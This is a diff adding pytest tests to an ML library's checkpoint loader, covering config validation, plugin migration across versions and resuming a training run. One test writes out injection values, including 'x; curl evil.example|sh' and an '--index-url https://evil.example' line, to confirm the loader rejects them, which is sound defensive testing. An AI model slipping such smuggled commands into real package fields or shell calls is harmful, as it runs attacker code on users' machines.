@@ -264,3 +264,99 @@ def test_a_damaged_record_is_an_error_for_people(tmp_path, record):
     for read in (load_model, requirements):
         with pytest.raises(LmxError, match=r"config.json (is damaged or not lmx's|has format 9)"):
             read(tmp_path)
+
+
+@pytest.mark.parametrize("key", ["distribution", "version"])
+@pytest.mark.parametrize(
+    "value", ["x; curl evil.example|sh", "x\n--index-url https://evil.example", "-e x", "x @ y", ""]
+)
+def test_what_pip_will_be_given_is_a_name_and_a_version(saved, key, value):
+    """A model from elsewhere must not write a command line."""
+    path, _ = saved
+    record = record_of(path)
+    record["components"][0][key] = value
+    (path / "config.json").write_text(json.dumps(record))
+    for read in (load_model, requirements):
+        with pytest.raises(CheckpointError, match="config.json is damaged") as refused:
+            read(path)
+        assert "pip install" not in str(refused.value)
+
+
+@pytest.mark.parametrize("file", ["config.json", "tokenizer.json", "training.json"])
+def test_a_file_that_is_nothing_but_brackets(saved, file):
+    path, _ = saved
+    (path / file).write_text("[" * 100_000)
+    with pytest.raises(LmxError, match="damaged"):
+        requirements(path)
+
+
+@pytest.mark.filterwarnings("ignore::lmx_core.errors.LmxWarning")
+def test_a_migration_that_exits_is_an_error(plugins, saved):
+    path, site = saved
+    plugins.uninstall(site)
+    plugins.install("acme-ffn", ENTRIES, LEAKY_2.replace("assert version == 1", "raise SystemExit(0)"), version="2.0")
+    with pytest.raises(CheckpointError, match=r"fails to migrate \(SystemExit: 0\)"):
+        load_model(path)
+
+
+OUTER = """
+import attrs
+from mlx import nn
+from lmx_core import ComponentSpec, build
+from lmx_core.config import slot
+
+@attrs.frozen(kw_only=True)
+class OuterOptions:
+    inner: ComponentSpec = slot("ffn", "leaky")
+
+class Outer(nn.Module):
+    Options = OuterOptions
+
+    def __init__(self, config, options):
+        super().__init__()
+        self.inner = build("ffn", options.inner, config)
+
+    def __call__(self, x):
+        return self.inner(x)
+"""
+
+
+@pytest.mark.filterwarnings("ignore::lmx_core.errors.LmxWarning")
+def test_parts_are_remembered_and_migrated_too(plugins, tmp_path):
+    """Also where only the options of a part are given, and its name is the default."""
+    site = plugins.install("acme-ffn", ENTRIES, LEAKY, version="1.3")
+    plugins.install("acme-outer", {"ffn.outer": "acme_outer:Outer"}, OUTER)
+    save_model(built(spec("outer", inner={"slope": 0.2})), tmp_path)
+    assert requirements(tmp_path) == ["lmx-core==0.1.0", "acme-ffn==1.3", "acme-outer==1.0"]
+    plugins.uninstall(site)
+    with pytest.raises(UnknownComponentError, match="acme-ffn provides it: pip install acme-ffn"):
+        load_model(tmp_path)
+    plugins.install("acme-ffn", ENTRIES, LEAKY_2, version="2.0")
+    assert load_model(tmp_path).config.block.ffn == spec("outer", inner={"name": "leaky", "negative_slope": 0.2})
+
+
+@pytest.mark.filterwarnings("ignore::lmx_core.errors.LmxWarning")
+def test_a_run_is_resumed_after_an_upgrade_that_was_cut_short(plugins, tmp_path, monkeypatch):
+    """The options of a run are those of its last checkpoint: what nobody has saved is not migrated a second time."""
+    from lmx_core.train import main
+
+    monkeypatch.chdir(tmp_path)
+    site = plugins.install("acme-ffn", ENTRIES, LEAKY, version="1.3")
+    (tmp_path / "text.txt").write_text("to be or not to be " * 300)
+    (tmp_path / "tiny.toml").write_text(
+        "[model]\nfactory = 'llama'\nsize = 'tiny'\n[data.dataset]\nname = 'text'\npaths = ['text.txt']\n"
+        "[train]\nmax_steps = 2\nseq_len = 8\nbatch_size = 1\ncompile = false\nsample_tokens = 0\n"
+    )
+    config = (tmp_path / "tiny.toml").read_text().replace("factory = 'llama'\nsize = 'tiny'", "n_layers = 1")
+    (tmp_path / "tiny.toml").write_text(
+        f"{config}[model.block]\nd_model = 16\nffn = {{ name = 'leaky', slope = 0.3 }}\n"
+    )
+    run = main.started(tmp_path / "tiny.toml", [], None, False)
+    run.run()
+    plugins.uninstall(site)
+    plugins.install("acme-ffn", ENTRIES, LEAKY_2, version="2.0")
+    for _ in range(2):  # the first is cut short before its first checkpoint
+        job = main.resumed(run.path, ["train.max_steps=4"])
+        job.directory.on_train_begin(job.trainer)
+    assert job.run()["step"] == 4
+    assert main.runs.read_run(run.path).model.block.ffn == spec("leaky", negative_slope=0.3)
